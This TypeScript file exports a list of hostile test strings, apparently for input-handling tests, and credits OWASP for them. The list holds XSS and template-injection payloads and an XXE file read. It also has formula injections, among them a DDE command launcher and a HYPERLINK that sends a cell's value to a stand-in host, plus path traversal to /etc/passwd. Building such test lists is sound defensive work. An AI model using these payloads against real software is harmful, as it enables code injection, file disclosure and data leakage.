/**
 * Texts that have broken programs: markup and scripts (after OWASP, "XSS filter evasion cheat sheet"), cells that spreadsheets take for formulas
 * (OWASP, "CSV injection"), names that leave their folder (OWASP, "Path traversal"; device names after Microsoft, "Naming files, paths, and
 * namespaces"), and text that ends the string, comment or record it stands in. Written from memory, not copied.
 */
export const HOSTILE_STRINGS: readonly string[] = [
  '<script>window.caught=1</script>',
  '<img src=x onerror="window.caught=2">',
  '"><svg onload=window.caught=3>',
  "' onmouseover='window.caught=4",
  '<iframe src="javascript:window.caught=5"></iframe>',
  '<a href="javascript:window.caught=6">x</a>',
  'javascript:/*--></title></style></textarea></script><svg/onload=window.caught=7>',
  '<style>@import "data:,*%7bx:expression(window.caught=8)%7D";</style>',
  '<<b>script>window.caught=9//<</b>/script>',
  '&lt;script&gt;window.caught=10&lt;/script&gt; &amp; &#60;b&#62;',
  '<!--<img src="--><img src=x onerror=window.caught=11//">',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the placeholder is what is tried
  '${window.caught=12} {{window.caught=12}} <%= 12 %>',
  ']]><script>window.caught=13</script><![CDATA[',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]>&b;',
  '=HYPERLINK("http://example.invalid/?"&A1,"Last Ferry")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '＝1+1',
  ' =1+1',
  '../../../etc/passwd',
  '..\\..\\windows\\system32\\drivers',
  '/absolute/path',
  'C:\\absolute.txt',
  'CON',
  '%2e%2e%2f%2e%2e%2f',
  'file.txt\u0000.pdf',
  ') Tj ET (((\\',
  '/S /JavaScript /JS (app.alert\\(1\\))',
  'title: key: | C | :| [A] ; form: A',
  '\u202etxt.drawkcab\u202c',
  '__proto__',
  '\ud800 half a surrogate',
  '💣'.repeat(20),
];
